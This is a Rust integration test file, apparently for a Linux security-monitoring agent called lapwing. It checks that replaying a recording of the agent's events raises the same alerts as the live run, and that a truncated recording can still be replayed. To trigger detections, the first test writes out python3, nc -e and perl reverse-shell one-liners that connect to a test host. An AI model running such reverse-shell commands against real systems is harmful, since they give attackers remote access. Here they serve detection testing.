//! A replay of a recording raises the alerts of the live run.

use std::path::Path;
use std::process::{Child, Command, Stdio};

use lapwing_stage::{Alert, until};
use serde_json::Value as Json;

use crate::reverse_shell::end;
use crate::{PATIENCE, Stage, is_there, project, reverse_shell, stage};

/// Starts a recording of the agent's events, and waits until it has begun.
fn record(stage: &Stage, file: &Path) -> Child {
    let mut command = stage.agent.command("record");
    let child = command.arg(file).arg("--json").stdout(Stdio::piped()).spawn().expect("lapwing record");
    // The head is shorter: with the running processes, the recording has begun.
    let is_begun = || Ok(std::fs::metadata(file).is_ok_and(|file| file.len() > 2000).then_some(()));
    until("the recording", PATIENCE, is_begun).expect("a recording");
    child
}

/// Ports that only the reverse shells of this test connect to.
const PORTS: std::ops::Range<u64> = 4301..4310;

/// Whether an alert is about an act of this test: every agent sees the processes of all.
fn is_own(alert: &Json) -> bool {
    alert.pointer("/destination/port").and_then(Json::as_u64).is_some_and(|port| PORTS.contains(&port))
}

/// The parts of an alert that identify it.
fn essence(alert: &Json) -> Json {
    let pick = |pointer: &str| alert.pointer(pointer).cloned().unwrap_or_default();
    let of = ["/event/id", "/@timestamp", "/rule/id", "/process/entity_id", "/lapwing/alert/events"];
    of.into_iter().map(pick).collect()
}

#[test]
#[cfg_attr(not(root), ignore = "needs root")]
fn a_replay_raises_the_alerts_of_the_live_run() {
    let stage = stage();
    let far = stage.hosts.far.address();
    let nc =
        if is_there("nc.traditional") { reverse_shell::link("nc", "nc.traditional") } else { String::new() };
    let acts = [
        (
            "python3",
            format!(
                "python3 -c 'import socket,pty;s=socket.socket();s.connect((\"{far}\",4301));pty.spawn(\"/bin/true\")'"
            ),
        ),
        ("nc.traditional", format!("{nc} -e /bin/true {far} 4302")),
        (
            "perl",
            format!(
                "perl -e 'use Socket;socket(S,PF_INET,SOCK_STREAM,6);connect(S,sockaddr_in(4303,inet_aton(\"{far}\")));exec(\"/bin/true\")'"
            ),
        ),
    ];
    let acts: Vec<_> = acts.into_iter().filter(|(tool, _)| is_there(tool)).collect();
    let folder = tempfile::tempdir().expect("a folder");
    let file = folder.path().join("incident.rec");
    let recorder = record(&stage, &file);
    for (_, script) in &acts {
        let act = || end(stage.hosts.near.shell("bash", script).expect("bash"));
        let port = |alert: &Alert| alert.document.pointer("/destination/port").and_then(Json::as_u64);
        let is_it = |alert: &Alert| port(alert).is_some_and(|port| script.contains(&port.to_string()));
        stage.alert_of(script, is_it, act);
    }
    let pid = recorder.id().to_string();
    Command::new("kill").args(["-s", "INT", &pid]).status().expect("kill");
    let output = recorder.wait_with_output().expect("an end");
    assert!(output.status.success(), "{output:?}");
    let printed: Json = serde_json::from_slice(&output.stdout).expect("JSON");
    assert_eq!((&printed["missed"], &printed["lost_records"]), (&0.into(), &0.into()));

    let live = stage.agent.alerts().expect("the log");
    let live = live.iter().map(|alert| &alert.document).filter(|alert| is_own(alert));
    let live: Vec<_> = live.map(essence).collect();
    let rules = project().join("packaging/rules");
    let mut replay = Command::new(env!("CARGO_BIN_EXE_lapwing"));
    let output = replay.args(["replay", "--json", "--rules"]).arg(rules).arg(&file).output();
    let output = output.expect("lapwing replay");
    assert!(output.status.success(), "{}", String::from_utf8_lossy(&output.stderr));
    let text = String::from_utf8(output.stdout).expect("text");
    let replayed = text.lines().map(|line| serde_json::from_str::<Json>(line).expect("JSON"));
    let replayed: Vec<_> = replayed.filter(is_own).map(|alert| essence(&alert)).collect();
    assert!(live.len() >= acts.len());
    let brief =
        |alerts: &[Json]| alerts.iter().map(|alert| format!("{} {}", alert[1], alert[0])).collect::<Vec<_>>();
    assert_eq!(brief(&replayed), brief(&live));
    assert_eq!(replayed, live);
}

/// A killed recorder leaves a recording that can be replayed, and the replay reports that its end is missing.
#[test]
#[cfg_attr(not(root), ignore = "needs root")]
fn the_recording_of_a_killed_recorder_is_replayed() {
    let stage = stage();
    let folder = tempfile::tempdir().expect("a folder");
    let file = folder.path().join("incident.rec");
    let mut recorder = record(&stage, &file);
    recorder.kill().expect("SIGKILL");
    recorder.wait().expect("an end");
    let lapwing = |arguments: &[&str]| {
        let mut command = Command::new(env!("CARGO_BIN_EXE_lapwing"));
        command.args(arguments).arg(&file).output().expect("lapwing")
    };
    let output = lapwing(&["search", "process where process.pid == 1"]);
    let (reported, said) = (String::from_utf8_lossy(&output.stdout), String::from_utf8_lossy(&output.stderr));
    assert!(reported.contains("already_running"), "{reported} {said}");
    assert!(said.contains("the recording is truncated"), "{said}");
    let again = stage.agent.command("record").arg(&file).output().expect("lapwing record");
    let said = String::from_utf8_lossy(&again.stderr);
    assert!(!again.status.success() && said.contains("incident.rec exists"), "{said}");
}
